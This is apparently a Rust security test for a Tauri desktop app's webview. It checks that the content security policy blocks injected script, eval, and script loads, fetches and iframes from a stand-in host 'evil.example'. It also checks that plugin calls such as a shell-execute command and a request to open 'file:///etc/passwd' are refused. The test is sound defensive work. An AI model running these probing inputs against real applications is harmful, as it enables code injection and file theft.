//! What a page of the window cannot do (T06): run foreign script, leave the console, call what it was not given.

use crate::stage::Stage;
use serde_json::json;

#[tokio::test]
async fn t06_the_policy_stops_foreign_script_and_the_border_refuses_unknown_commands() {
    let mut stage = Stage::set().await;
    let window = stage.open(&[]).await;
    window.see("h1", window.words("page.overview")).await;

    let stopped = window
        .promise(
            r#"
            const seen = [];
            addEventListener("securitypolicyviolation", (event) => seen.push(event.violatedDirective));
            const script = document.createElement("script");
            script.textContent = "window.foreign = 'ran'";
            document.body.append(script);
            const button = document.createElement("button");
            button.setAttribute("onclick", "window.foreign = 'clicked'");
            document.body.append(button);
            button.click();
            let evaluated = "stopped";
            try { evaluated = (0, eval)("'evaluated'"); } catch { /* as it should be */ }
            const remote = document.createElement("script");
            remote.src = "https://evil.example/x.js";
            const asked = new Promise((resolve) => { remote.onerror = () => resolve("stopped"); remote.onload = () => resolve("loaded"); });
            document.body.append(remote);
            const fetched = await fetch("https://evil.example/").then(() => "fetched", () => "stopped");
            const frame = document.createElement("iframe");
            frame.src = "https://evil.example/";
            document.body.append(frame);
            const outcome = await asked;
            await new Promise((resolve) => setTimeout(resolve, 200));
            [script, button, remote, frame].forEach((one) => one.remove());
            return { foreign: window.foreign ?? "stopped", evaluated, remote: outcome, fetched, seen: seen.length };
            "#,
        )
        .await;
    let outcome = &stopped["ok"];
    for way in ["foreign", "evaluated", "remote", "fetched"] {
        assert_eq!(outcome[way], "stopped", "{way}: {stopped}");
    }
    assert!(outcome["seen"].as_u64().unwrap() >= 4, "each was told as a violation: {stopped}");

    // What the console is given, and nothing beside it: no plugin, no part of tauri itself.
    let rpc = "return window.__TAURI_INTERNALS__.invoke('rpc', { command: 'settings.get', request: {} })";
    assert!(window.promise(rpc).await["ok"]["concurrency"].is_u64());
    let unknown = "return window.__TAURI_INTERNALS__.invoke('rpc', { command: 'secrets.read', request: {} })";
    assert_eq!(window.promise(unknown).await, json!({ "failed": "unknown_command" }));
    for command in [
        "no_such_command",
        "plugin:dialog|open",
        "plugin:dialog|save",
        "plugin:autostart|enable",
        "plugin:window-state|filename",
        "plugin:fs|read_text_file",
        "plugin:shell|execute",
        "plugin:window|create",
        "plugin:webview|create_webview_window",
        "plugin:event|listen",
        "plugin:app|app_hide",
        "plugin:path|resolve_directory",
        "plugin:tray|new",
        "plugin:menu|new",
    ] {
        let answer = window.promise(&format!("return window.__TAURI_INTERNALS__.invoke('{command}', {{}})")).await;
        let refused = answer["failed"].as_str().unwrap_or_else(|| panic!("{command} was answered: {answer}"));
        assert!(refused.contains("not allowed") || refused.contains("not found"), "{command}: {refused}");
    }
    let link = "return window.__TAURI_INTERNALS__.invoke('open_link', { url: 'file:///etc/passwd' })";
    assert_eq!(window.promise(link).await, json!({ "failed": "invalid_field" }));

    // The window stays on the console and opens no other.
    window.promise("location.href = 'https://evil.example/'; await new Promise((r) => setTimeout(r, 500))").await;
    window.promise("window.open('https://evil.example/')").await;
    window.see("h1", window.words("page.overview")).await;
    assert_eq!(window.script("return location.host", json!([])).await, "localhost");
    window.close().await;
}

#[test]
fn t06_the_capability_lists_what_the_console_may_call_and_no_more() {
    let capability: serde_json::Value =
        serde_json::from_str(include_str!("../../src-tauri/capabilities/main.json")).unwrap();
    let allowed = capability["permissions"].as_array().unwrap();
    let expected = [
        "allow-rpc",
        "allow-subscribe",
        "allow-follow-addresses",
        "allow-speak",
        "allow-open-link",
        "allow-pick-folder",
        "allow-pick-file",
        "allow-save-text",
        "allow-save-log",
    ];
    assert_eq!(
        *allowed,
        expected.map(|one| json!(one)),
        "a new permission needs a look at what a script could do with it"
    );
    assert_eq!((&capability["windows"], &capability["remote"]), (&json!(["main"]), &serde_json::Value::Null));
}
